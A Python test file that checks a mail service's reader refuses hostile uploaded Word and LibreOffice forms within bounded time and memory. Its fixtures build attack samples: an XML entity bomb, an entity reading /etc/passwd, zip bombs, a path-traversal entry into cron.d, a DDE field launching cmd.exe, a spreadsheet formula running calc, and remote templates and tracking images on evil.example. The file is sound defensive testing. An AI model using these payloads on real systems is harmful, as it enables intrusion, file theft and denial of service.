"""Documents that nobody sends back who has filled in a form: each is refused with a sentence, in little time and memory."""

import random
import struct
import time
import tracemalloc
from io import BytesIO
from zipfile import ZipFile

import pytest

from mailservice.mail.documents.reading import read
from tests.mail.documents.made import LINKS, OFFICE, W, cell, docx, odt, p, packed, table
from tests.mail.documents.test_reading import FILLED, UNSEEN

FORM = table((cell(p("Outcome or actions agreed")), cell(p("Weekly visits."))))
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<!DOCTYPE w [<!ENTITY l0 "ha">{LAUGHS}]><w:document {W}><w:body>{p("&l9;")}</w:body></w:document>'
FETCHED = (
    f'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {W}><w:body>{p("&x;")}</w:body></w:document>'
)
ENABLED = "application/vnd.ms-word.document.macroEnabled.main+xml"
OUTSIDE = '<Relationship Id="r9" Type="{kind}" Target="{target}" TargetMode="External"/>'
MACROS, EMBEDDED, TOO_MUCH = "it has macros", "it has another file inside", "far more"
FETCHES = "it fetches something from outside"


def lying(data: bytes) -> bytes:
    """Return a packed file whose largest part says in both its heads that it is small."""
    small = struct.pack("<I", 1_000)
    whole = struct.pack("<I", 20_000_000)
    return data.replace(whole, small)


def twice() -> bytes:
    """Return a document with two texts: a guard might read the one, and Word the other."""
    return packed({"word/document.xml": "<a/>", "word/documenU.xml": "<b/>"}).replace(b"documenU", b"document")


def deep() -> bytes:
    many = 50_000
    body = "<w:tbl><w:tr><w:tc>" * many + p("in") + "</w:tc></w:tr></w:tbl>" * many
    return docx(body)


def split_field() -> str:
    pieces = ("DDE", "AUTO c:\\\\windows", "\\\\system32\\\\cmd.exe")
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    return f"<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>{runs}<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1_000)
HOSTILE = {
    "macros in what calls itself a plain document": (
        "form.docx",
        docx(FORM, {"word/vbaProject.bin": b"\0" * 99}),
        MACROS,
    ),
    "a kind that may have macros": (
        "form.docm",
        packed(
            {
                "[Content_Types].xml": f'<Types><Override ContentType="{ENABLED}"/></Types>',
                "word/document.xml": f"<w:document {W}/>",
            }
        ),
        MACROS,
    ),
    "a bomb that says how large it is": ("form.docx", docx("<!--" + " " * 60_000_000 + "-->" + FORM), "would unpack"),
    "a bomb that says that it is small": (
        "form.docx",
        lying(packed({"word/document.xml": bytes(20_000_000)})),
        "damaged",
    ),
    "more pieces than any form": (
        "form.docx",
        docx(FORM, {f"word/{n}.xml": "" for n in range(2_000)}),
        "more pieces",
    ),
    "a document in a document": ("form.docx", docx(FORM, {"word/embeddings/more.docx": docx(FORM)}), EMBEDDED),
    "an object that a program opens": ("form.docx", docx(FORM, {"word/embeddings/oleObject1.bin": OLE}), EMBEDDED),
    "a control that runs": ("form.docx", docx(FORM, {"word/activeX/activeX1.bin": b"\0"}), EMBEDDED),
    "a template that is fetched": (
        "form.docx",
        docx(FORM, relations=OUTSIDE.format(kind=f"{OFFICE}/attachedTemplate", target="https://evil.example/t.dotm")),
        FETCHES,
    ),
    "a picture that tells who has looked": (
        "form.docx",
        docx(FORM, relations=OUTSIDE.format(kind=f"{OFFICE}/image", target="https://evil.example/seen.png")),
        FETCHES,
    ),
    "an entity that doubles and doubles": ("form.docx", packed({"word/document.xml": LAUGHS}), "a document type"),
    "an entity that reads a file": ("form.docx", packed({"word/document.xml": FETCHED}), "a document type"),
    "one with a password": ("form.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "it has a password"),
    "a name that leads out of it": ("form.docx", docx(FORM, {"../../etc/cron.d/x": "x"}), "a name that leads out"),
    "two pieces of one name": ("form.docx", twice(), "two pieces of one name"),
    "a program that calls itself a document": ("form.docx", b"MZ" + bytes(100), "it is a program"),
    "a document that calls itself a PDF": ("form.pdf", docx(FORM), "its name does not fit"),
    "an endless text": ("form.docx", docx(p("word " * 1_000_000)), TOO_MUCH),
    "an endless depth": ("form.docx", deep(), TOO_MUCH),
    "endless rows": ("form.docx", docx(table(*[(cell(p("x")),)] * 20_000)), TOO_MUCH),
    "a field that starts a program, in pieces": ("form.docx", docx(FORM + split_field()), "a field that fetches"),
    "a field that reads a file": (
        "form.docx",
        docx(FORM + '<w:fldSimple w:instr="INCLUDETEXT c:/x"/>'),
        "a field that fetches",
    ),
    "macros of LibreOffice": ("form.odt", odt("<text:p>x</text:p>", {"Basic/Standard/x.xml": "x"}), MACROS),
    "a script in the text": ("form.odt", odt("<text:p><script:event-listener/></text:p>"), MACROS),
    "an object of LibreOffice": ("form.odt", odt("<text:p><draw:object/></text:p>"), EMBEDDED),
    "a picture that LibreOffice fetches": (
        "form.odt",
        odt(f'<text:p><draw:image {LINKS} xlink:href="http://evil.example/x.png"/></text:p>'),
        FETCHES,
    ),
    "an .odt with a password": (
        "form.odt",
        odt("", {"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        "it has a password",
    ),
    "a torn file": ("form.docx", docx(FORM)[:-40], "it is damaged"),
    "only the beginning of one": ("form.docx", b"PK\x03\x04" + b"\xff" * 500, "it is damaged"),
    "text that is no XML": ("form.docx", packed({"word/document.xml": "<w:document"}), "it is damaged"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_it_is_refused_with_a_sentence_in_bounded_time_and_memory(what: str) -> None:
    name, data, why = HOSTILE[what]
    tracemalloc.start()
    began = time.process_time()
    found = read(name, data)
    took, (_, most) = time.process_time() - began, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert why in found.refused, found.refused
    assert found.refused.endswith("fill in the document that hangs on our letter")
    assert found.rows == ()
    assert took < 8, f"{took:.1f} s of the processor"  # a mail that is read has ten
    assert most < 100_000_000, f"{most:,} bytes"


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("scan.pdf", b"%PDF-1.7\n", "it is a PDF or a scan: we cannot read what is written in it."),
        ("IMG_1.jpg", b"\xff\xd8\xff\xe0", "it is a picture: we cannot read what is written in it."),
        ("photo.heic", b"\0\0\0\x18ftypheic", "it is a picture: we cannot read what is written in it."),
        ("form.docx", b"%PDF-1.7\n", "its name says a document, and it is a PDF or a scan."),
        ("form.doc", OLE, "it is an old Word file; please choose Save As, Word Document (.docx), and send that."),
        ("form.xlsx", packed({"xl/workbook.xml": "<x/>"}), "it is a spreadsheet."),
        ("form.rtf", b"{\\rtf1", "it is an RTF file: we cannot read what is written in it."),
        ("form.docx", b"", "it is no text document."),
    ],
)
def test_what_cannot_be_read_is_said_kindly_with_what_to_do_instead(name: str, data: bytes, why: str) -> None:
    found = read(name, data)
    assert found.refused.startswith(why)
    assert "Please answer with each field's name, a colon and your words" in found.refused
    assert not found.hostile


def test_a_link_that_waits_for_a_click_harms_nobody() -> None:
    link = OUTSIDE.format(kind=f"{OFFICE}/hyperlink", target="mailto:kate.doyle@severnside.example")
    assert read("form.docx", docx(FORM, relations=link)).refused == ""


def test_a_formula_is_words_like_any_other() -> None:
    found = read("form.docx", docx(table((cell(p("Outcome")), cell(p("=cmd|'/C calc'!A0"))))))
    assert found.rows[0][1].text == "=cmd|'/C calc'!A0"


def torn(data: bytes, chance: random.Random) -> bytes:
    """Return a document some of whose markup was torn, doubled or moved, packed as if nothing had been."""
    with ZipFile(BytesIO(data)) as file:
        parts = {name: bytearray(file.read(name)) for name in file.namelist()}
    main = next(parts[name] for name in ("word/document.xml", "content.xml") if name in parts)
    for _ in range(chance.randint(1, 6)):
        at = chance.randrange(len(main))
        if chance.random() < 0.4:
            del main[at : at + chance.randint(1, 40)]
        else:
            tag = main.find(b"<", at)
            main[tag:tag] = chance.choice(TORN) if tag >= 0 else b""
    return packed({name: bytes(part) for name, part in parts.items()})


TORN = (
    *(
        b"<w:sdt/>",
        b"<w:sdtPr><w:tag w:val='x'/><w:showingPlcHdr/></w:sdtPr>",
        b"<w:tc/>",
        b"<w:tr/>",
        b"<w:checkBox/>",
    ),
    *(b"<w:p/>", b"<w:checked/>", b"<text:s text:c='99999999'/>", b"<table:table-cell/>", b"<loext:content-control/>"),
)


def test_whatever_is_torn_in_it_a_document_is_read_or_refused_and_fails_no_mail() -> None:
    chance = random.Random(20261127)  # noqa: S311 - the same documents on each run
    for how, data in (FILLED | UNSEEN).items():
        for _ in range(100):
            name = "form.odt" if "libreoffice" in how else "form.docx"
            assert "we could not read it" not in read(name, torn(data, chance)).refused
